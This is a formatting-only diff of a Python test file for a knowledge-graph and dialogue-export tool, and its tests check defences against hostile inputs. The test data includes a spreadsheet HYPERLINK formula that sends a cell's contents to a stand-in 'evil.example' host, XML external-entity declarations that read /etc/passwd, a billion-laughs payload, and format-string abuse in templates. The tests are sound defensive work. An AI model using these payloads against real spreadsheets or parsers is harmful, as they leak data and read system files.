@@ -37,8 +37,19 @@ def one_error_line(result: subprocess.CompletedProcess) -> str:
 
 @pytest.mark.slow  # every command run on a missing file
 def test_missing_input_files_are_one_line_naming_them(tmp_path, workdir, cli):
-    export = cli("export", "travel", "--dialogues", str(tmp_path / "nope.json"), "--format", "kdconv",
-                 "--out", str(tmp_path / "x.json"), "--workdir", str(workdir), check=False)
+    export = cli(
+        "export",
+        "travel",
+        "--dialogues",
+        str(tmp_path / "nope.json"),
+        "--format",
+        "kdconv",
+        "--out",
+        str(tmp_path / "x.json"),
+        "--workdir",
+        str(workdir),
+        check=False,
+    )
     assert export.returncode == 1
     assert "nope.json: No such file or directory" in one_error_line(export)
     init = cli("init", "foo", "--from", str(tmp_path / "nope.csv"), "--workdir", str(workdir), check=False)
@@ -107,10 +118,9 @@ def test_a_full_disk_is_recognised_through_any_library_wrapping():
 def test_a_write_that_fails_leaves_the_old_file_and_no_temporary_one(tmp_path):
     target = tmp_path / "goals.jsonl"
     target.write_text("old\n")
-    with pytest.raises(OSError):
-        with atomic_write(target) as out:
-            out.write("new\n")
-            raise OSError(errno.ENOSPC, "No space left on device")
+    with pytest.raises(OSError), atomic_write(target) as out:
+        out.write("new\n")
+        raise OSError(errno.ENOSPC, "No space left on device")
     assert target.read_text() == "old\n"
     assert [p.name for p in tmp_path.iterdir()] == ["goals.jsonl"]
 
@@ -120,8 +130,13 @@ def small_disk(tmp_path):
     """A 20 MB tmpfs (root only: skipped elsewhere, where the unit tests above still run)."""
     mount = tmp_path / "disk"
     mount.mkdir()
-    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=20m", "tmpfs", str(mount)],
-                                           capture_output=True).returncode != 0:
+    if (
+        os.geteuid() != 0
+        or subprocess.run(
+            ["mount", "-t", "tmpfs", "-o", "size=20m", "tmpfs", str(mount)], capture_output=True
+        ).returncode
+        != 0
+    ):
         pytest.skip("mounting a tmpfs needs root")
     yield mount
     subprocess.run(["umount", "-l", str(mount)], check=False)
@@ -140,14 +155,18 @@ def fill(disk: Path, leave_kb: int) -> Path:
 def test_a_full_disk_ends_export_rdf_and_a_rebuild_in_one_line_and_keeps_the_published_build(small_disk, cli):
     workdir = small_disk / "kg"
     table = small_disk / "books.csv"
-    table.write_text("id,name,author\n" + "".join(f"http://e.org/b{i},Book {i},Author {i % 50}\n"
-                                                 for i in range(3000)), encoding="utf-8")
+    table.write_text(
+        "id,name,author\n" + "".join(f"http://e.org/b{i},Book {i},Author {i % 50}\n" for i in range(3000)),
+        encoding="utf-8",
+    )
     cli("build", "books", "--source", f"csv:{table}", "--workdir", str(workdir))
-    count = 'SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }'
+    count = "SELECT (COUNT(*) AS ?n) WHERE { ?s ?p ?o }"
     before = cli("query", "books", count, "--format", "csv", "--workdir", str(workdir)).stdout
     filler = fill(small_disk, 64)
-    for args in (("export-rdf", "books", "--format", "nq", "--out", str(small_disk / "all.nq")),
-                 ("build", "books", "--source", f"csv:{table}", "--full")):  # unchanged sources: --full rewrites them
+    for args in (
+        ("export-rdf", "books", "--format", "nq", "--out", str(small_disk / "all.nq")),
+        ("build", "books", "--source", f"csv:{table}", "--full"),
+    ):  # unchanged sources: --full rewrites them
         result = cli(*args, "--workdir", str(workdir), check=False)
         assert result.returncode == 1
         assert "no space left on device" in one_error_line(result)
@@ -204,11 +223,17 @@ def test_a_spreadsheet_cell_never_starts_a_formula_and_reads_back_exactly(value)
 
 
 def test_a_formula_label_reaches_the_sheet_as_text_and_reads_back(tmp_path):
-    from kgforge.exports.formats.sheet import CSV, COLUMNS, Sheet, read_sheet
+    from kgforge.exports.formats.sheet import COLUMNS, CSV, Sheet, read_sheet
 
     evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-    record = {column: "" for column in COLUMNS} | {"dialogue_id": "d1", "topic_a": evil, "topic_b": "@SUM(1)",
-                                                   "goal": "[]", "knowledge": "[]", "goal_text": "-2+3"}
+    record = {column: "" for column in COLUMNS} | {
+        "dialogue_id": "d1",
+        "topic_a": evil,
+        "topic_b": "@SUM(1)",
+        "goal": "[]",
+        "knowledge": "[]",
+        "goal_text": "-2+3",
+    }
     Sheet().write([record], tmp_path / "sheet.csv", CSV)
     with open(tmp_path / "sheet.csv", encoding="utf-8", newline="") as handle:
         row = next(csv.DictReader(handle))
@@ -246,7 +271,8 @@ def test_duplicate_ids_of_an_entity_table_are_quarantined_naming_the_first(tmp_p
     data = b"id,name,author\nhttp://e.org/1,a,x\nhttp://e.org/2,c,y\nhttp://e.org/1,d,z\n"
     outcome = read_source("csv", data, tmp_path, "books.csv")
     assert [(e["location"], e["reason"]) for e in outcome.quarantined] == [
-        ("line 4", "duplicate id 'http://e.org/1': line 2 has the same id (the first one is kept)")]
+        ("line 4", "duplicate id 'http://e.org/1': line 2 has the same id (the first one is kept)")
+    ]
     assert not any('"d"' in quad for quad in outcome.quads)
 
 
@@ -266,9 +292,12 @@ LAUGHS = b"""<?xml version="1.0"?>
 
 
 def rdf_xml(doctype: bytes, body: bytes = b"") -> bytes:
-    return (b'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n' + doctype + b"\n]>\n"
-            b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">\n'
-            + body + b"\n</rdf:RDF>\n")
+    return (
+        b'<?xml version="1.0"?>\n<!DOCTYPE rdf:RDF [\n' + doctype + b"\n]>\n"
+        b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:ex="http://example.org/">\n'
+        + body
+        + b"\n</rdf:RDF>\n"
+    )
 
 
 def test_nested_xml_entities_are_refused_before_the_parser_expands_them(tmp_path):
@@ -277,18 +306,23 @@ def test_nested_xml_entities_are_refused_before_the_parser_expands_them(tmp_path
     assert "billion laughs" in outcome.error and not outcome.quads
 
 
-@pytest.mark.parametrize("declaration, refused", [
-    (b'<!ENTITY x SYSTEM "file:///etc/passwd">', "external entity"),
-    (b'<!ENTITY % p "x">', "parameter or external"),
-])
+@pytest.mark.parametrize(
+    "declaration, refused",
+    [
+        (b'<!ENTITY x SYSTEM "file:///etc/passwd">', "external entity"),
+        (b'<!ENTITY % p "x">', "parameter or external"),
+    ],
+)
 def test_external_and_parameter_entities_are_refused(tmp_path, declaration, refused):
     outcome = read_source("rdf", rdf_xml(declaration), tmp_path, "x.rdf")
     assert outcome.error is not None and refused in outcome.error
 
 
 def test_plain_namespace_entities_of_owl_files_still_read(tmp_path):
-    data = rdf_xml(b'<!ENTITY ex "http://example.org/">',
-                   b'<rdf:Description rdf:about="&ex;a"><ex:name>A &amp; B</ex:name></rdf:Description>')
+    data = rdf_xml(
+        b'<!ENTITY ex "http://example.org/">',
+        b'<rdf:Description rdf:about="&ex;a"><ex:name>A &amp; B</ex:name></rdf:Description>',
+    )
     outcome = read_source("rdf", data, tmp_path, "ok.rdf")
     assert outcome.error is None
     assert any(quad.startswith("<http://example.org/a>") and '"A & B"' in quad for quad in outcome.quads)
@@ -298,8 +332,10 @@ def test_entity_references_that_expand_past_the_cap_are_refused(tmp_path, monkey
     import kgforge.sources.rdf as rdf
 
     monkeypatch.setattr(rdf, "MAX_ENTITY_EXPANSION", 1000)
-    data = rdf_xml(b'<!ENTITY big "' + b"x" * 100 + b'">',
-                   b'<rdf:Description rdf:about="http://example.org/a"><ex:p>' + b"&big;" * 20 + b"</ex:p></rdf:Description>")
+    data = rdf_xml(
+        b'<!ENTITY big "' + b"x" * 100 + b'">',
+        b'<rdf:Description rdf:about="http://example.org/a"><ex:p>' + b"&big;" * 20 + b"</ex:p></rdf:Description>",
+    )
     outcome = read_source("rdf", data, tmp_path, "big.rdf")
     assert outcome.error is not None and "would add more than" in outcome.error
 
@@ -313,7 +349,9 @@ def test_one_kdconv_entry_nested_200000_deep_costs_only_that_entry(shared, tmp_p
     data = ("{\n" + ",\n".join(members) + "\n}\n").encode("utf-8")
     outcome = read_source("kdconv", data, tmp_path, "kb_travel.json")
     assert outcome.counts["records_ok"] == len(kb)
-    assert [(e["location"], e["reason"]) for e in outcome.quarantined] == [("line 7", "nested more than 100 levels deep")]
+    assert [(e["location"], e["reason"]) for e in outcome.quarantined] == [
+        ("line 7", "nested more than 100 levels deep")
+    ]
 
 
 def test_dumps_bytes_keeps_hostile_text_as_data():
@@ -339,8 +377,19 @@ def test_export_of_dialogues_with_a_lone_surrogate_nul_esc_and_5_mb_writes_them_
     source.write_text(json.dumps(dialogues, ensure_ascii=True), encoding="ascii")
     for extra in ((), ("--skip-invalid",)):
         out = tmp_path / f"out{len(extra)}.json"
-        cli("export", "travel", "--dialogues", str(source), "--format", "kdconv", "--out", str(out),
-            "--workdir", str(workdir), *extra)
+        cli(
+            "export",
+            "travel",
+            "--dialogues",
+            str(source),
+            "--format",
+            "kdconv",
+            "--out",
+            str(out),
+            "--workdir",
+            str(workdir),
+            *extra,
+        )
         written = json.loads(out.read_text(encoding="utf-8"))
         assert written[0]["messages"][0]["message"] == "bad \ud800 surrogate \x00 nul \x1b esc"
         assert len(written[1]["messages"][0]["message"]) == 5_000_000
@@ -385,8 +434,9 @@ def test_a_damaged_store_is_one_line_with_the_command_that_rebuilds_it(tmp_path,
 # ---------------------------------------------------------------- LLM templates, preflights, eval inputs
 
 
-@pytest.mark.parametrize("text", ["{subject:>60000000}的{predicate}", "{ref:d}", "{x.__class__}", "{subject[0]}",
-                                  "{subject!r}的{predicate}"])
+@pytest.mark.parametrize(
+    "text", ["{subject:>60000000}的{predicate}", "{ref:d}", "{x.__class__}", "{subject[0]}", "{subject!r}的{predicate}"]
+)
 def test_templates_take_bare_placeholder_names_only(text):
     from kgforge.qa.templates import check_template
 
@@ -404,8 +454,7 @@ def test_the_embedding_preflight_refuses_a_huge_dimension_without_allocating_it(
 
     import torch
 
-    from kgforge.embed.config import EmbedConfig
-    from kgforge.embed.config import EmbedError
+    from kgforge.embed.config import EmbedConfig, EmbedError
     from kgforge.embed.train import memory_preflight
 
     before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
@@ -465,10 +514,18 @@ def test_init_out_onto_an_unwritable_path_is_one_line(tmp_path, workdir, cli):
 
 def test_query_csv_writes_a_formula_label_as_text(tmp_path, workdir, cli):
     table = tmp_path / "books.csv"
-    table.write_text('id,name,year\nhttp://e.org/b1,"=HYPERLINK(""http://evil.example/"",""x"")",-3\n',
-                     encoding="utf-8")
+    table.write_text(
+        'id,name,year\nhttp://e.org/b1,"=HYPERLINK(""http://evil.example/"",""x"")",-3\n', encoding="utf-8"
+    )
     cli("build", "books", "--source", f"csv:{table}", "--workdir", str(workdir))
-    out = cli("query", "books", "SELECT ?name ?year WHERE { <http://e.org/b1> rdfs:label ?name ; kgr:year ?year }",
-              "--format", "csv", "--workdir", str(workdir)).stdout
+    out = cli(
+        "query",
+        "books",
+        "SELECT ?name ?year WHERE { <http://e.org/b1> rdfs:label ?name ; kgr:year ?year }",
+        "--format",
+        "csv",
+        "--workdir",
+        str(workdir),
+    ).stdout
     rows = list(csv.reader(io.StringIO(out)))
-    assert rows[1] == ["'=HYPERLINK(\"http://evil.example/\",\"x\")", "-3"]
+    assert rows[1] == ['\'=HYPERLINK("http://evil.example/","x")', "-3"]
